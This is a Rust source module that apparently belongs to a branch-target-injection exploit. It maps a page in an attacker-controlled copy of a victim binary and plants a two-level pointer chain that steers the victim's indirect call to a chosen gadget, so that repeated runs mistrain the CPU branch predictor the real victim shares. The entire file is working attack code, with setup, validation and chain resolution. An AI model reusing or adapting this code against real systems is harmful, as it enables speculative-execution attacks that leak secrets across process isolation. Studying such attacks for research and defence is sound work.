//! Steering the victim's indirect call at the gadget.
//!
//! The victim loads its call target through a pointer stored at a fixed
//! image-relative offset (`target`). In the attacker's copy of the image
//! that slot lives on a page we control:
//!
//! ```text
//!   page + 0x000           : base + gadget
//!   page + (target & 0xfff): page + 0x000
//! ```
//!
//! so the copied victim's `call [ [target] ]` lands on the planted `ret`
//! at the gadget offset. Running the copy over and over trains the branch
//! predictor entry for that call site, which is keyed by virtual address
//! and shared with the real victim mapped at the same base.

use log::debug;
use nix::sys::mman::ProtFlags;
use thiserror::Error;

use crate::mem::*;

#[derive(Debug, Error)]
pub enum TrainerError {
    #[error(transparent)]
    Map(#[from] MapError),

    #[error("target slot at page offset {0:#x} collides with the gadget pointer")]
    SlotCollision(usize),

    #[error("gadget at {gadget:#x} is on the same page as the target slot")]
    GadgetOnTargetPage { gadget: usize },
}

/// The page holding the attacker's two-level call target.
#[derive(Debug)]
pub struct GotChain {
    page: Mapping,
    gadget_addr: usize,
    slot_addr: usize,
}
impl GotChain {
    /// Map the page containing `image_base + target_offset` and fill in the
    /// chain leading to `image_base + gadget_offset`.
    ///
    /// The page is mapped over whatever was there before, including the
    /// attacker's own copy of the image.
    pub fn install<M: MapFixed>(mapper: &mut M, image_base: usize,
        gadget_offset: usize, target_offset: usize)
        -> Result<Self, TrainerError>
    {
        let out_of_range = |offset: usize| MapError::OutOfRange {
            addr: image_base, end: image_base.saturating_add(offset)
        };
        let gadget_addr = image_base.checked_add(gadget_offset)
            .ok_or_else(|| out_of_range(gadget_offset))?;
        let slot_addr = image_base.checked_add(target_offset)
            .ok_or_else(|| out_of_range(target_offset))?;
        let page_addr = page_align_down(slot_addr);
        let slot_off = slot_addr & PAGE_MASK;

        if slot_off < 8 || slot_off > PAGE_SIZE - 8 {
            return Err(TrainerError::SlotCollision(slot_off));
        }
        if page_align_down(gadget_addr) == page_addr {
            return Err(TrainerError::GadgetOnTargetPage { gadget: gadget_addr });
        }

        let prot = ProtFlags::PROT_READ | ProtFlags::PROT_WRITE;
        let mut page = map_exact(mapper, page_addr, PAGE_SIZE, prot)?;
        page.write_u64(0, gadget_addr as u64);
        page.write_u64(slot_off, page_addr as u64);
        debug!("target slot {:016x} -> {:016x} -> gadget {:016x}",
            slot_addr, page_addr, gadget_addr);

        Ok(Self { page, gadget_addr, slot_addr })
    }

    pub fn page_addr(&self) -> usize { self.page.base() }
    pub fn slot_addr(&self) -> usize { self.slot_addr }
    pub fn gadget_addr(&self) -> usize { self.gadget_addr }

    /// Follow the chain from the target slot, the way the victim's call
    /// does. Returns `None` if a link leaves the page.
    pub fn resolve(&self) -> Option<usize> {
        let base = self.page.base();
        let mut addr = self.slot_addr;
        for _ in 0..2 {
            let off = addr.checked_sub(base)?;
            if !self.page.contains(off, 8) {
                return None;
            }
            addr = self.page.read_u64(off) as usize;
        }
        Some(addr)
    }
}
